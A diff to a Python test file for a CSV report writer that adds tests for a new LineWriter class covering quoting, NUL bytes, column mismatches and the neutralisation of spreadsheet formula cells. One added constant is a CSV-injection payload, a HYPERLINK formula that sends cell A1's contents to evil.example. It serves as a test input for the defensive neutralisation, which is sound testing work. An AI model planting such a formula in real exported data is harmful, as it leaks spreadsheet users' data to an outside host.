@@ -6,13 +6,16 @@ import csv
 import io
 from collections.abc import Callable
 from dataclasses import replace
+from typing import Any
 
 import pytest
 
-from screener.model import Report, Skipped
+from screener.model import Assessment, Report, Skipped
 from screener.report import RenderOptions
 from screener.report.csv_format import (
     SCREENER_COLUMNS,
+    VERDICTS_KEPT,
+    LineWriter,
     neutralise,
     row_cells,
     skipped_cells,
@@ -24,6 +27,7 @@ from screener.report.csv_format import (
 
 Golden = Callable[[str, str], None]
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
 
 
 def _render(report: Report) -> str:
@@ -180,3 +184,83 @@ def test_skipped_cells_without_columns(report: Report) -> None:
     assert cells["screener_score"] == ""
     assert skipped.reason in cells["screener_reasons"]
     assert cells["screener_row"] == str(skipped.row)
+
+
+def _written(columns: tuple[str, ...], item: Assessment | Skipped) -> str:
+    out = io.StringIO()
+    if isinstance(item, Skipped):
+        write_skipped(out, columns, item)
+    else:
+        write_row(out, columns, item)
+    return out.getvalue()
+
+
+def _with_raw(assessment: Assessment, raw: dict[str, Any]) -> Assessment:
+    return replace(assessment, record=replace(assessment.record, raw=raw))
+
+
+def test_line_writer_writes_the_lines_the_writers_write(report: Report) -> None:
+    columns = tuple(report.assessments[1].record.raw)
+    lines = LineWriter(columns)
+    items: list[Assessment | Skipped] = [*report.assessments, *report.skipped]
+    for _ in range(2):  # the second time, every verdict is one the writer kept
+        for item in items:
+            expected = _written(columns, item)
+            if isinstance(item, Skipped):
+                assert lines.skipped(item) == expected
+            else:
+                assert lines.row(item) == expected
+
+
+@pytest.mark.parametrize(
+    "cells",
+    [
+        ["plain", "text", "1.5"],  # nothing to quote or neutralise: the cells joined by commas
+        ["Co., Ltd.", 'say "hi"', "two\nlines"],  # quoted
+        ["ok", "=SUM(A1)", "ok"],  # neutralised, not first
+        ["@user", "ok", "ok"],  # neutralised, first
+        ["-120.50", "+1,000", "-"],  # signed numbers stay, a bare dash is neutralised
+        ["a\x00=b", "x", "y"],  # a NUL before a formula sign inside a cell
+        ["a\x00b", "x", "y"],  # a NUL alone
+        ["carriage\rreturn", "\tlead", "x"],
+        ["", "", ""],
+        [FORMULA, "", "x"],
+    ],
+)
+def test_line_writer_cells_as_the_writer_writes_them(report: Report, cells: list[str]) -> None:
+    columns = ("A", "B", "C")
+    for assessment in report.assessments:
+        row = _with_raw(assessment, dict(zip(columns, cells, strict=True)))
+        assert LineWriter(columns).row(row) == _written(columns, row)
+
+
+def test_line_writer_rows_whose_columns_differ_from_the_reports(report: Report) -> None:
+    assessment = report.assessments[1]
+    cases: list[tuple[tuple[str, ...], dict[str, Any]]] = [
+        (("A", "B"), {"B": "2", "A": "1"}),  # another order
+        (("A", "B", "C"), {"A": "1", "C": "3"}),  # a column the row lacks
+        (("A",), {"A": "1", "Z": "extra"}),  # a cell of no report column
+        (("A",), {"A": ""}),  # one empty cell: csv.writer alone would write '""'
+        ((), {"A": "1"}),  # no user columns (screener.spark)
+        ((), {}),
+        (("A", "B"), {"A": 7, "B": None}),  # not text: written as the writers write str()
+    ]
+    for columns, raw in cases:
+        row = _with_raw(assessment, raw)
+        assert LineWriter(columns).row(row) == _written(columns, row), (columns, raw)
+
+
+def test_line_writer_keeps_its_verdicts_bounded(report: Report) -> None:
+    columns = tuple(report.assessments[1].record.raw)
+    lines = LineWriter(columns)
+    critical = report.assessments[1]
+    reason = critical.reasons[0]
+    # Each row's own Reason object is a verdict of its own; the oldest go first.
+    rows = [
+        replace(critical, reasons=(replace(reason, points=i),))
+        for i in range(VERDICTS_KEPT + 10)
+    ]
+    for row in rows:
+        assert lines.row(row) == _written(columns, row)
+    assert len(lines._verdicts) == VERDICTS_KEPT
+    assert lines.row(rows[0]) == _written(columns, rows[0])  # written again once dropped
